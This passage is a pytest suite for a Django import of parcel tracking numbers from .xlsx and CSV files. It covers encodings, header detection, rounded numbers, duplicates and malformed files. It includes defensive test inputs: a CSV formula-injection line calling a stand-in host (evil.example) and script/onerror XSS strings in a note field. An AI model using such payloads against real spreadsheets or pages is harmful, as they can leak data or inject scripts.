"""The spreadsheet import (upload checks, the task's run, the result file) and the .xlsx export."""

import datetime as dt
import io
import unicodedata
import zipfile

import pytest
from celery.exceptions import SoftTimeLimitExceeded
from django.core.files.uploadedfile import SimpleUploadedFile
from django.http import HttpResponse
from django.utils import translation
from hypothesis import assume, given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from openpyxl.reader.strings import read_string_table

from addresses.models import DeliveryAddress
from consignments.tests.factories import ConsignmentFactory
from core.errors import DomainError
from tracking import imports
from tracking.imports import export_tracking_xlsx, import_run, import_start
from tracking.models import TrackingImport, TrackingNumber, TrackingStatus
from tracking.services import Verdict
from tracking.tests.factories import TrackingImportFactory, TrackingNumberFactory

pytestmark = pytest.mark.django_db

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
HEADER = ["Row", "As written", "Tracking number", "Result", "Why"]


@pytest.fixture(autouse=True)
def english_and_private_media(settings, tmp_path):
    """English results (the task uses LANGUAGE_CODE), and uploads in a directory of this test's own."""
    settings.LANGUAGE_CODE = "en"
    settings.MEDIA_ROOT = str(tmp_path / "media")
    with translation.override("en"):
        yield


def xlsx_file(rows, name="ma-van-don.xlsx") -> SimpleUploadedFile:
    workbook = Workbook()
    sheet = workbook.active
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return SimpleUploadedFile(name, buffer.getvalue(), content_type=XLSX)


def csv_file(text, encoding="utf-8", name="ma-van-don.csv") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, text.encode(encoding), content_type="text/csv")


def run(customer, upload) -> TrackingImport:
    imp = import_start(customer=customer, uploaded_file=upload)
    import_run(import_id=imp.pk)
    imp.refresh_from_db()
    return imp


def result_rows(imp) -> list[list]:
    assert imp.result_file.name.endswith("-result.xlsx")
    with imp.result_file.open("rb") as handle:
        sheet = load_workbook(handle).active
        return [list(row) for row in sheet.iter_rows(values_only=True)]


def verdicts_of(imp) -> list[tuple[int, str]]:
    """(row, result label) of each data row of the result file."""
    rows = result_rows(imp)
    assert rows[0] == HEADER
    return [(row[0], row[3]) for row in rows[1:]]


def label(verdict: str) -> str:
    return str(Verdict.LABELS[verdict])


def counts(imp) -> dict:
    return {
        "processed_rows": imp.processed_rows,
        "added": imp.added,
        "already": imp.already,
        "repeated": imp.repeated,
        "conflicts": imp.conflicts,
        "refused": imp.refused,
    }


# --- a good file -------------------------------------------------------------------------------------------


def test_a_good_workbook_with_a_header_registers_codes_with_their_notes(customer, other_customer):
    TrackingNumberFactory(customer=customer, code="SF1111111111111")
    TrackingNumberFactory(customer=other_customer, code="YT2222222222222")
    upload = xlsx_file(
        [
            ["STT", "Mã vận đơn", "Ghi chú"],
            [1, "SF 1234 5678 9012 3", "3 đôi giày"],
            [2, "sf1111111111111", "already mine"],
            [3, "YT2222222222222", "someone else's too"],
            [4, "1234567890123456789", "a Taobao order number"],
            [5, "中通快递 78123456789012", ""],
        ]
    )
    imp = run(customer, upload)

    assert imp.status == TrackingImport.Status.DONE
    assert imp.error == ""
    assert imp.finished_at is not None
    assert imp.percent == 100
    assert imp.total_rows == 5
    assert counts(imp) == {
        "processed_rows": 5,
        "added": 2,
        "already": 1,
        "repeated": 0,
        "conflicts": 1,
        "refused": 1,
    }
    mine = dict(TrackingNumber.objects.filter(customer=customer).values_list("code", "note"))
    assert mine == {
        "SF1111111111111": "",  # the earlier registration is left as it was
        "SF1234567890123": "3 đôi giày",
        "YT2222222222222": "someone else's too",
        "78123456789012": "",
    }

    rows = result_rows(imp)
    assert rows[0] == HEADER
    assert [row[:4] for row in rows[1:]] == [
        [2, "SF 1234 5678 9012 3", "SF1234567890123", label(Verdict.ADDED)],
        [3, "sf1111111111111", "SF1111111111111", label(Verdict.ALREADY)],
        [4, "YT2222222222222", "YT2222222222222", label(Verdict.CONFLICT)],
        [5, "1234567890123456789", None, label(Verdict.REFUSED)],
        [6, "中通快递 78123456789012", "78123456789012", label(Verdict.ADDED)],
    ]
    assert "Taobao" in rows[4][4]
    assert "Another customer" in rows[3][4]


def test_the_upload_queues_the_task_after_commit(customer, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks(execute=True):
        imp = import_start(customer=customer, uploaded_file=xlsx_file([["SF1234567890123"]]))
        assert TrackingImport.objects.get(pk=imp.pk).status == TrackingImport.Status.PENDING
    imp.refresh_from_db()
    assert imp.status == TrackingImport.Status.DONE
    assert imp.original_name == "ma-van-don.xlsx"
    assert imp.file.name.startswith("imports/") and imp.file.name.endswith(".xlsx")
    assert TrackingNumber.objects.filter(customer=customer, code="SF1234567890123").exists()


def test_without_a_header_column_a_is_the_code_and_b_the_note(customer):
    imp = run(customer, xlsx_file([["SF1234567890123", "áo khoác"], ["JT1234567890123", None]]))
    assert verdicts_of(imp) == [(1, label(Verdict.ADDED)), (2, label(Verdict.ADDED))]
    assert dict(TrackingNumber.objects.values_list("code", "note")) == {
        "SF1234567890123": "áo khoác",
        "JT1234567890123": "",
    }


def test_chinese_headers_find_the_columns_wherever_they_are(customer):
    upload = xlsx_file([["日期", "备注", "快递单号"], ["5/6", "鞋子 2 双", "YT1234567890123"]])
    imp = run(customer, upload)
    assert counts(imp)["added"] == 1
    assert TrackingNumber.objects.get().note == "鞋子 2 双"


# --- what spreadsheets do to numbers -------------------------------------------------------------------------


def test_numbers_stored_as_numbers_become_codes(customer):
    upload = xlsx_file([["Tracking number"], [78123456789012], [77123456789.0], [431234567890.0]])
    imp = run(customer, upload)
    assert counts(imp)["added"] == 3
    assert set(TrackingNumber.objects.values_list("code", flat=True)) == {
        "78123456789012",
        "77123456789",
        "431234567890",
    }


def test_numbers_that_lost_digits_are_refused(customer):
    upload = xlsx_file([["code"], ["7.8123E+13"], [7.812345678901234e17], [123.5]])
    imp = run(customer, upload)
    assert counts(imp)["refused"] == 3
    rows = result_rows(imp)
    assert rows[1][1] == "7.8123E+13"
    assert "rounded number" in rows[1][4]
    assert rows[2][1] == "7.81234567890123E+17"
    assert "rounded number" in rows[2][4]
    assert not TrackingNumber.objects.exists()


def test_a_formula_in_a_csv_is_refused_and_never_written_back_as_one(customer):
    upload = csv_file(
        'code,note\n=HYPERLINK("http://evil.example/?x="&A1),x\n="78123456789012",kept as text\n'
    )
    imp = run(customer, upload)
    rows = result_rows(imp)
    assert rows[1][3] == label(Verdict.REFUSED)
    assert rows[1][4] == "This cell holds a formula, not a code."
    assert rows[1][1] == '\'=HYPERLINK("http://evil.example/?x="&A1)'
    # ="…" is how some exports keep a long number as text: that is the code, not a formula.
    assert rows[2][1:4] == ["78123456789012", "78123456789012", label(Verdict.ADDED)]
    with imp.result_file.open("rb") as handle:
        sheet = load_workbook(handle).active
        assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_result_file_never_holds_a_formula_from_what_was_written(customer):
    imp = run(customer, csv_file("-SF1234567890123\n@SUM(1)\n+1234\n"))
    rows = result_rows(imp)
    assert [row[1] for row in rows[1:]] == ["'-SF1234567890123", "'@SUM(1)", "'+1234"]


# --- CSV ---------------------------------------------------------------------------------------------------


def test_csv_with_semicolons_in_gb18030(customer):
    text = "运单号;备注\r\nYT1234567890123;女装 连衣裙, 2 件\r\n中通 78123456789012;鞋子\r\n"
    imp = run(customer, csv_file(text, encoding="gb18030"))
    assert imp.status == TrackingImport.Status.DONE, imp.error
    assert counts(imp)["added"] == 2
    assert dict(TrackingNumber.objects.values_list("code", "note")) == {
        "YT1234567890123": "女装 连衣裙, 2 件",
        "78123456789012": "鞋子",
    }
    assert verdicts_of(imp) == [(2, label(Verdict.ADDED)), (3, label(Verdict.ADDED))]


@pytest.mark.parametrize(
    ("text", "encoding", "note"),
    [
        ("Mã vận đơn,Ghi chú\nSF1234567890123,túi xách\n", "utf-8-sig", "túi xách"),  # Excel's "CSV UTF-8"
        ("Tracking\tNotes\nSF1234567890123\ttúi xách\n", "utf-16", "túi xách"),  # Excel's "Unicode text"
        ("tracking number,note\nSF1234567890123,café\n", "cp1252", "café"),
        ('"code";"note"\n"SF1234567890123";"a; b, c"\n', "utf-8", "a; b, c"),
    ],
)
def test_csv_encodings_and_delimiters(customer, text, encoding, note):
    imp = run(customer, csv_file(text, encoding=encoding))
    assert imp.status == TrackingImport.Status.DONE, imp.error
    assert list(TrackingNumber.objects.values_list("code", "note")) == [("SF1234567890123", note)]


TONE_MARKS = {"\u0300", "\u0301", "\u0309", "\u0303", "\u0323"}


def to_cp1258(text: str) -> bytes:
    """text as Excel on a Vietnamese Windows saves it: precomposed where cp1258 has the letter, otherwise
    the letter with its tone mark as a combining character after it."""
    out = bytearray()
    for char in unicodedata.normalize("NFC", text):
        try:
            out += char.encode("cp1258")
        except UnicodeEncodeError:
            parts = unicodedata.normalize("NFD", char)
            base = unicodedata.normalize("NFC", "".join(c for c in parts if c not in TONE_MARKS))
            out += (base + "".join(c for c in parts if c in TONE_MARKS)).encode("cp1258")
    return bytes(out)


VIETNAMESE_WORDS = [
    "áo",
    "khoác",
    "nữ",
    "màu",
    "đỏ",
    "giày",
    "thể",
    "thao",
    "nam",
    "đồ",
    "chơi",
    "trẻ",
    "em",
    "quần",
    "jean",
    "ốp",
    "lưng",
    "điện",
    "thoại",
    "mỹ",
    "phẩm",
    "dưỡng",
    "da",
    "túi",
    "xách",
    "bàn",
    "phím",
    "cơ",
    "được",
    "sữa",
    "bột",
    "ướt",
    "đựng",
    "nồi",
    "chiên",
    "không",
    "dầu",
    "kính",
    "râm",
    "đồng",
    "hồ",
    "thông",
    "minh",
    "bình",
    "giữ",
    "nhiệt",
    "váy",
    "liền",
    "thân",
    "dép",
    "tổ",
    "ong",
    "bút",
    "bi",
    "sách",
    "vở",
    "máy",
    "sấy",
    "tóc",
    "chăn",
    "ga",
    "gối",
    "đệm",
    "rèm",
    "cửa",
    "cắm",
    "điện",
]
CHINESE_WORDS = [
    "女装",
    "外套",
    "连衣裙",
    "儿童",
    "玩具",
    "手机壳",
    "运动鞋",
    "化妆品",
    "背包",
    "键盘",
    "保温杯",
    "太阳镜",
    "手表",
    "拖鞋",
    "被子",
    "窗帘",
    "插座",
    # GB2312 level 2 and beyond: less common, but product names have them
    "锂电池",
    "瑜伽裤",
    "猫砂",
    "麂皮靴",
    "蕾丝",
    "羽绒服",
]


def test_a_vietnamese_windows_csv_keeps_its_notes(customer):
    """Excel on a Vietnamese Windows saves "CSV (Comma delimited)" in cp1258, tone marks combining."""
    rows = [
        ("SF1234567890123", "Áo khoác nữ, màu đỏ"),
        ("JT1234567890123", "Giày thể thao"),
        ("YT1234567890123", ""),
    ]
    data = to_cp1258("Mã vận đơn,Ghi chú\n" + "".join(f'{code},"{note}"\n' for code, note in rows))
    imp = run(customer, SimpleUploadedFile("ma-van-don.csv", data, content_type="text/csv"))
    assert imp.status == TrackingImport.Status.DONE, imp.error
    assert sorted(TrackingNumber.objects.values_list("code", "note")) == sorted(rows)


CASES = (str.lower, str.upper, str.title, str.capitalize)


@given(
    st.lists(
        st.tuples(
            st.lists(st.sampled_from(VIETNAMESE_WORDS), min_size=1, max_size=4), st.sampled_from(CASES)
        ),
        min_size=1,
        max_size=30,
    )
)
def test_vietnamese_windows_csvs_are_read_as_typed(notes):
    """Any number of rows, in any case ("HỒ GỐI", "Ốp lưng"): one short note is enough to tell. (Not a file
    whose only Vietnamese letters are words of one vowel, "ở" or "ổ" alone: that could as well be Chinese.)"""
    text = "".join(f"SF{n:013d},{case(' '.join(words))}\n" for n, (words, case) in enumerate(notes))
    assert imports.decode(to_cp1258(text)) == unicodedata.normalize("NFC", text)


def test_no_chinese_word_reads_as_vietnamese():
    """Each word alone is refused as Vietnamese, so no file of them is: the property test below cannot be
    lucky."""
    for word in CHINESE_WORDS:
        assert imports.as_vietnamese(word.encode("gbk")) is None, word


@given(st.lists(st.lists(st.sampled_from(CHINESE_WORDS), min_size=1, max_size=4), min_size=1, max_size=30))
def test_chinese_windows_csvs_are_read_as_typed(notes):
    text = "".join(f"SF{n:013d},{''.join(words)}\n" for n, words in enumerate(notes))
    data = text.encode("gbk")
    # UTF-8 is tried first (far more common): GBK bytes that happen to be valid UTF-8 too (a word or two
    # can be) are read as UTF-8. Not a case this test is about.
    assume(not _is_utf8(data))
    assert imports.decode(data) == text


def _is_utf8(data: bytes) -> bool:
    try:
        data.decode("utf-8")
    except UnicodeDecodeError:
        return False
    return True


def test_a_single_column_csv(customer):
    imp = run(customer, csv_file("SF1234567890123\nJT1234567890123\n"))
    assert counts(imp)["added"] == 2


def test_a_csv_whose_letters_cannot_be_read_fails_with_a_reason(customer):
    imp = run(customer, SimpleUploadedFile("x.csv", b"SF1234567890123\n\x81 \x81\n"))
    assert imp.status == TrackingImport.Status.FAILED
    assert "CSV UTF-8" in imp.error
    assert not TrackingNumber.objects.exists()


# --- repeats, conflicts, empty rows ----------------------------------------------------------------------


def test_a_code_twice_in_the_file_is_a_repeat_on_the_page_as_in_the_result_file(customer):
    upload = xlsx_file([["SF1234567890123"], ["sf 1234567890123"], ["JT1234567890123"]])
    imp = run(customer, upload)
    assert counts(imp) == {
        "processed_rows": 3,
        "added": 2,
        "already": 0,
        "repeated": 1,
        "conflicts": 0,
        "refused": 0,
    }
    rows = result_rows(imp)
    assert rows[2][3] == label(Verdict.DUPLICATE)
    assert rows[2][4] == "Same code as row 1."


def test_repeats_across_chunks_name_the_real_first_row(customer, monkeypatch):
    monkeypatch.setattr(imports.run, "CHUNK_ROWS", 2)
    rows = [
        ["SF1234567890123"],
        [None],
        ["JT1234567890123"],
        ["YT1234567890123"],
        [None],
        ["sf1234567890123"],
    ]
    imp = run(customer, xlsx_file(rows))
    assert verdicts_of(imp) == [
        (1, label(Verdict.ADDED)),
        (3, label(Verdict.ADDED)),
        (4, label(Verdict.ADDED)),
        (6, label(Verdict.DUPLICATE)),
    ]
    assert result_rows(imp)[4][4] == "Same code as row 1."
    assert counts(imp) == {
        "processed_rows": 4,
        "added": 3,
        "already": 0,
        "repeated": 1,
        "conflicts": 0,
        "refused": 0,
    }


def test_a_code_another_customer_registered_is_a_conflict(customer, other_customer):
    TrackingNumberFactory(customer=other_customer, code="SF1234567890123")
    imp = run(customer, xlsx_file([["SF1234567890123"]]))
    assert counts(imp)["conflicts"] == 1
    assert verdicts_of(imp) == [(1, label(Verdict.CONFLICT))]
    assert TrackingNumber.objects.filter(code="SF1234567890123").count() == 2


def test_empty_rows_are_skipped_and_rows_keep_their_spreadsheet_numbers(customer):
    upload = xlsx_file(
        [
            [None, None],
            ["Mã vận đơn", "Ghi chú"],
            ["SF1234567890123", "a"],
            [None, None],
            ["   ", ""],
            ["", "a note without a code"],
            ["JT1234567890123", None],
        ]
    )
    imp = run(customer, upload)
    assert verdicts_of(imp) == [
        (3, label(Verdict.ADDED)),
        (6, label(Verdict.REFUSED)),
        (7, label(Verdict.ADDED)),
    ]
    assert imp.processed_rows == imp.total_rows == 3


def test_progress_is_committed_chunk_by_chunk_with_real_line_numbers(customer, monkeypatch):
    monkeypatch.setattr(imports.run, "CHUNK_ROWS", 2)
    seen = []
    register = imports.run.tracking_register_many

    def spy(*, customer, entries, first_line):
        imp = TrackingImport.objects.get()
        seen.append((imp.status, imp.processed_rows, imp.total_rows, first_line, len(entries)))
        return register(customer=customer, entries=entries, first_line=first_line)

    monkeypatch.setattr(imports.run, "tracking_register_many", spy)
    codes = [[f"SF{n:013d}"] for n in range(5)]
    imp = run(customer, xlsx_file([["code"], *codes[:2], [None], *codes[2:]]))
    # total_rows comes from the sheet's own size (7 rows: a header, an empty row, five codes) until the end.
    assert seen == [("running", 0, 0, 2, 2), ("running", 2, 6, 5, 2), ("running", 4, 6, 7, 1)]
    assert (imp.added, imp.processed_rows, imp.total_rows, imp.percent) == (5, 5, 5, 100)


# --- the limit ---------------------------------------------------------------------------------------------


def test_rows_past_the_limit_are_left_and_the_customer_told(customer, monkeypatch):
    monkeypatch.setattr(imports.run, "MAX_ROWS", 10)
    rows = [["code", "note"]] + [[f"SF{n:013d}", f"n{n}"] for n in range(15)]
    imp = run(customer, xlsx_file(rows))
    assert imp.status == TrackingImport.Status.DONE
    assert imp.error == "Only the first 10 rows were processed; split the file."
    assert imp.added == imp.processed_rows == imp.total_rows == 10
    assert TrackingNumber.objects.count() == 10
    assert len(result_rows(imp)) == 11


def test_the_run_speaks_the_site_language(customer, monkeypatch, settings):
    settings.LANGUAGE_CODE = "vi"
    monkeypatch.setattr(imports.run, "MAX_ROWS", 1000)
    text = "\n".join(f"SF{n:013d}" for n in range(1001))
    imp = run(customer, csv_file(text))
    assert "1.000" in imp.error  # Vietnamese digit grouping


# --- broken and refused files ------------------------------------------------------------------------------


def test_a_binary_file_renamed_xlsx_is_refused_at_upload(customer):
    upload = SimpleUploadedFile("ma-van-don.xlsx", b"\x7fELF\x02\x01\x01" + bytes(range(256)) * 4)
    with pytest.raises(DomainError) as caught:
        import_start(customer=customer, uploaded_file=upload)
    assert "not an Excel file" in str(caught.value)
    assert ".xlsx" in str(caught.value) and ".csv" in str(caught.value)
    assert not TrackingImport.objects.exists()


def test_zip_magic_with_garbage_after_it_is_refused_at_upload(customer):
    upload = SimpleUploadedFile("ma-van-don.xlsx", b"PK\x03\x04" + b"\x00" * 500)
    with pytest.raises(DomainError, match="not an Excel file"):
        import_start(customer=customer, uploaded_file=upload)


def test_a_zip_that_is_not_a_workbook_fails_at_the_run_with_a_reason(customer):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("hello.txt", "not a workbook")
    imp = run(customer, SimpleUploadedFile("ma-van-don.xlsx", buffer.getvalue()))
    assert imp.status == TrackingImport.Status.FAILED
    assert "could not be read as an Excel workbook" in imp.error
    assert imp.finished_at is not None
    assert not imp.result_file


def test_a_file_broken_half_way_keeps_what_was_registered_and_says_so(customer, monkeypatch):
    monkeypatch.setattr(imports.run, "CHUNK_ROWS", 2)
    text = 'SF1234567890123\nJT1234567890123\nYT1234567890123\n"' + "x" * 200_000 + '"\n'
    imp = run(customer, csv_file(text))
    assert imp.status == TrackingImport.Status.FAILED
    assert imp.error.startswith("This CSV file is damaged")
    assert "The 2 rows before the problem were registered" in imp.error
    assert (imp.processed_rows, imp.added) == (2, 2)
    assert verdicts_of(imp) == [(1, label(Verdict.ADDED)), (2, label(Verdict.ADDED))]


def test_running_out_of_time_fails_the_import_with_what_to_do(customer, monkeypatch):
    def too_slow(**kwargs):
        raise SoftTimeLimitExceeded()

    monkeypatch.setattr(imports.run, "tracking_register_many", too_slow)
    imp = run(customer, xlsx_file([["SF1234567890123"]]))
    assert imp.status == TrackingImport.Status.FAILED
    assert "took too long" in imp.error


def test_a_bug_fails_the_import_and_is_raised(customer, monkeypatch):
    monkeypatch.setattr(imports.run, "tracking_register_many", lambda **kwargs: 1 / 0)
    imp = import_start(customer=customer, uploaded_file=xlsx_file([["SF1234567890123"]]))
    with pytest.raises(ZeroDivisionError):
        import_run(import_id=imp.pk)
    imp.refresh_from_db()
    assert imp.status == TrackingImport.Status.FAILED
    assert "on our side" in imp.error
    assert imp.finished_at is not None


def test_an_old_xls_is_refused_with_what_to_do(customer):
    upload = SimpleUploadedFile("ma-van-don.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 100)
    with pytest.raises(DomainError, match=r"save it as \.xlsx or \.csv"):
        import_start(customer=customer, uploaded_file=upload)


@pytest.mark.parametrize("name", ["codes.txt", "codes.pdf", "codes"])
def test_other_extensions_are_refused(customer, name):
    with pytest.raises(DomainError, match=r"\.xlsx.*\.csv") as caught:
        import_start(customer=customer, uploaded_file=SimpleUploadedFile(name, b"SF1234567890123\n"))
    assert caught.value.code == "extension"


def test_an_empty_file_is_refused(customer):
    with pytest.raises(DomainError, match="empty"):
        import_start(customer=customer, uploaded_file=SimpleUploadedFile("codes.csv", b""))


def test_a_file_over_the_size_limit_is_refused(customer, monkeypatch):
    monkeypatch.setattr(imports.upload, "MAX_UPLOAD_BYTES", 1024)
    with pytest.raises(DomainError, match="Split it") as caught:
        import_start(customer=customer, uploaded_file=csv_file("SF1234567890123\n" * 100))
    assert caught.value.code == "too_large"


def test_a_workbook_named_csv_is_refused(customer):
    with pytest.raises(DomainError, match="Rename it to .xlsx"):
        import_start(customer=customer, uploaded_file=xlsx_file([["SF1234567890123"]], name="codes.csv"))


def test_a_customer_without_an_address_is_refused_at_upload(new_customer):
    with pytest.raises(DomainError) as caught:
        import_start(customer=new_customer, uploaded_file=xlsx_file([["SF1234567890123"]]))
    assert caught.value.code == "no_address"
    assert not TrackingImport.objects.exists()


def test_an_address_removed_before_the_run_fails_the_import(customer):
    imp = import_start(customer=customer, uploaded_file=xlsx_file([["SF1234567890123"]]))
    DeliveryAddress.objects.filter(customer=customer).delete()
    import_run(import_id=imp.pk)
    imp.refresh_from_db()
    assert imp.status == TrackingImport.Status.FAILED
    assert "address" in imp.error


def test_a_file_with_no_codes_fails_with_what_to_do(customer):
    imp = run(customer, xlsx_file([["Mã vận đơn", "Ghi chú"], [None, None]]))
    assert imp.status == TrackingImport.Status.FAILED
    assert "column A" in imp.error


def test_a_workbook_that_understates_its_size_is_read_to_the_end(customer):
    """Some programs write a wrong <dimension>; read-only openpyxl would stop at the size it claims."""
    upload = xlsx_file([[f"SF{n:013d}"] for n in range(5)])
    source, target = io.BytesIO(upload.read()), io.BytesIO()
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w") as new:
        for item in old.infolist():
            data = old.read(item)
            if item.filename == "xl/worksheets/sheet1.xml":
                assert b'<dimension ref="A1:A5" />' in data
                data = data.replace(b'<dimension ref="A1:A5" />', b'<dimension ref="A1:A2" />')
            new.writestr(item, data)
    imp = run(customer, SimpleUploadedFile("codes.xlsx", target.getvalue()))
    assert imp.added == 5


# --- a workbook as Excel writes it ----------------------------------------------------------------------

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
DOC_RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
CT = "application/vnd.openxmlformats-officedocument.spreadsheetml"
EXCEL_PARTS = {
    "[Content_Types].xml": (
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        f'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/xl/workbook.xml" ContentType="{CT}.sheet.main+xml"/>'
        f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{CT}.worksheet+xml"/>'
        f'<Override PartName="/xl/styles.xml" ContentType="{CT}.styles+xml"/>'
        f'<Override PartName="/xl/sharedStrings.xml" ContentType="{CT}.sharedStrings+xml"/>'
        "</Types>"
    ),
    "_rels/.rels": (
        f'<Relationships xmlns="{RELS}"><Relationship Id="rId1" Type="{DOC_RELS}/officeDocument" '
        'Target="xl/workbook.xml"/></Relationships>'
    ),
    "xl/workbook.xml": (
        f'<workbook xmlns="{MAIN}" xmlns:r="{DOC_RELS}"><sheets>'
        '<sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>'
    ),
    "xl/_rels/workbook.xml.rels": (
        f'<Relationships xmlns="{RELS}">'
        f'<Relationship Id="rId1" Type="{DOC_RELS}/worksheet" Target="worksheets/sheet1.xml"/>'
        f'<Relationship Id="rId2" Type="{DOC_RELS}/styles" Target="styles.xml"/>'
        f'<Relationship Id="rId3" Type="{DOC_RELS}/sharedStrings" Target="sharedStrings.xml"/>'
        "</Relationships>"
    ),
    "xl/styles.xml": (
        f'<styleSheet xmlns="{MAIN}"><fonts count="1"><font><sz val="11"/><name val="Calibri"/></font></fonts>'
        '<fills count="1"><fill><patternFill patternType="none"/></fill></fills>'
        '<borders count="1"><border><left/><right/><top/><bottom/><diagonal/></border></borders>'
        '<cellStyleXfs count="1"><xf numFmtId="0" fontId="0" fillId="0" borderId="0"/></cellStyleXfs>'
        '<cellXfs count="3"><xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0"/>'
        '<xf numFmtId="14" fontId="0" fillId="0" borderId="0" xfId="0" applyNumberFormat="1"/>'
        '<xf numFmtId="49" fontId="0" fillId="0" borderId="0" xfId="0" applyNumberFormat="1"/></cellXfs>'
        '<cellStyles count="1"><cellStyle name="Normal" xfId="0" builtinId="0"/></cellStyles></styleSheet>'
    ),
    "xl/sharedStrings.xml": (
        f'<sst xmlns="{MAIN}" count="4" uniqueCount="4"><si><t>Mã vận đơn</t></si><si><t>Ghi chú</t></si>'
        '<si><t xml:space="preserve"> SF1234567890123 </t></si>'
        '<si><r><t xml:space="preserve">giày </t></r><r><rPr><b/></rPr><t>đỏ</t></r>'
        '<rPh sb="0" eb="1"><t>ignored</t></rPh></si></sst>'
    ),
    # Shared strings, styles, a stale <dimension>, a missing row, sparse cells, a formula with its cached text,
    # one never calculated, an error, a boolean, a date, rows and cells without their r attribute.
    "xl/worksheets/sheet1.xml": (
        f'<worksheet xmlns="{MAIN}" xmlns:r="{DOC_RELS}"><dimension ref="A1:C2"/><sheetData>'
        '<row r="1" spans="1:3"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c></row>'
        '<row r="2" spans="1:3"><c r="A2" t="s"><v>2</v></c><c r="B2" t="s"><v>3</v></c></row>'
        '<row r="4"><c r="A4"><v>78123456789012</v></c><c r="C4" s="1"><v>45813</v></c></row>'
        '<row r="5"><c r="A5"><v>7.8123456789012E+16</v></c><c r="B5" t="b"><v>1</v></c></row>'
        '<row r="6"><c r="A6" t="str"><f>"SF"&amp;"1234567890124"</f><v>SF1234567890124</v></c>'
        '<c r="B6" t="e"><v>#N/A</v></c></row>'
        '<row r="7"><c r="A7" t="inlineStr"><is><t>JT1234567890123</t></is></c><c r="B7" s="2" t="s"><v>3</v></c></row>'
        '<row r="8"><c r="A8"><f>1+1</f></c></row>'
        '<row><c t="s"><v>2</v></c><c><v>12.5</v></c></row>'
        '<row r="11"><c r="D11"><v>431234567890</v></c></row>'
        "</sheetData></worksheet>"
    ),
}


def excel_dialect_xlsx(replace=None) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, xml in {**EXCEL_PARTS, **(replace or {})}.items():
            archive.writestr(name, '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n' + xml)
    return buffer.getvalue()


def test_the_fast_sheet_reader_reads_what_openpyxl_reads():
    workbook = load_workbook(io.BytesIO(excel_dialect_xlsx()), read_only=True, data_only=True)
    sheet = workbook.active
    sheet.reset_dimensions()
    ours = list(imports.xlsx_rows(sheet))
    theirs = [(number, tuple(values)) for number, values in enumerate(sheet.iter_rows(values_only=True), 1)]
    workbook.close()
    assert ours == [(number, values) for number, values in theirs if values]  # openpyxl fills in missing rows
    assert ours[1] == (2, (" SF1234567890123 ", "giày đỏ"))
    assert ours[2] == (4, (78123456789012, None, dt.datetime(2025, 6, 5)))
    assert ours[7] == (9, (" SF1234567890123 ", 12.5))
    assert ours[-1] == (11, (None, None, None, 431234567890))


def test_row_numbers_and_columns_far_out_cost_nothing(customer):
    sheet = EXCEL_PARTS["xl/worksheets/sheet1.xml"].replace(
        '<row r="11"><c r="D11">',
        '<row r="2000000000"><c r="A2000000000" t="inlineStr"><is><t>JT9999999999999</t></is></c>'
        '<c r="XFD2000000000"><v>1</v></c><c r="D11">',
    )
    content = excel_dialect_xlsx({"xl/worksheets/sheet1.xml": sheet})
    imp = run(customer, SimpleUploadedFile("far.xlsx", content))
    assert imp.status == TrackingImport.Status.DONE, imp.error
    assert result_rows(imp)[-1][:4] == [
        2000000000,
        "JT9999999999999",
        "JT9999999999999",
        label(Verdict.ADDED),
    ]


def test_the_fast_string_table_reads_what_openpyxl_reads():
    source = EXCEL_PARTS["xl/sharedStrings.xml"].encode()
    theirs = read_string_table(io.BytesIO(source))
    assert (
        imports.read_shared_strings(io.BytesIO(source))
        == theirs
        == [
            "Mã vận đơn",
            "Ghi chú",
            " SF1234567890123 ",
            "giày đỏ",
        ]
    )


def test_a_workbook_as_excel_writes_it(customer):
    imp = run(customer, SimpleUploadedFile("excel.xlsx", excel_dialect_xlsx()))
    assert imp.status == TrackingImport.Status.DONE, imp.error
    assert [row[:4] for row in result_rows(imp)[1:]] == [
        [2, "SF1234567890123", "SF1234567890123", label(Verdict.ADDED)],
        [4, "78123456789012", "78123456789012", label(Verdict.ADDED)],
        [5, "7.8123456789012E+16", None, label(Verdict.REFUSED)],
        [6, "SF1234567890124", "SF1234567890124", label(Verdict.ADDED)],
        [7, "JT1234567890123", "JT1234567890123", label(Verdict.ADDED)],
        [9, "SF1234567890123", "SF1234567890123", label(Verdict.DUPLICATE)],
    ]
    assert TrackingNumber.objects.get(code="SF1234567890123").note == "giày đỏ"
    assert TrackingNumber.objects.get(code="JT1234567890123").note == "giày đỏ"


# --- hostile content ---------------------------------------------------------------------------------------


def test_html_in_a_note_is_stored_as_plain_text(customer):
    note = '<script>alert("x")</script><img src=x onerror=alert(1)>'
    imp = run(customer, xlsx_file([["code", "note"], ["SF1234567890123", note]]))
    assert imp.status == TrackingImport.Status.DONE
    assert TrackingNumber.objects.get().note == note


def test_control_characters_do_not_break_the_result_file(customer):
    imp = run(customer, csv_file("SF12345\x0167890123,note\x02\n"))
    assert imp.status == TrackingImport.Status.DONE
    assert len(result_rows(imp)) == 2


# --- running twice -----------------------------------------------------------------------------------------


def test_running_twice_does_nothing_the_second_time(customer):
    imp = run(customer, xlsx_file([["SF1234567890123"], ["JT1234567890123"]]))
    before = (imp.status, counts(imp), imp.result_file.name, imp.finished_at)
    import_run(import_id=imp.pk)
    imp.refresh_from_db()
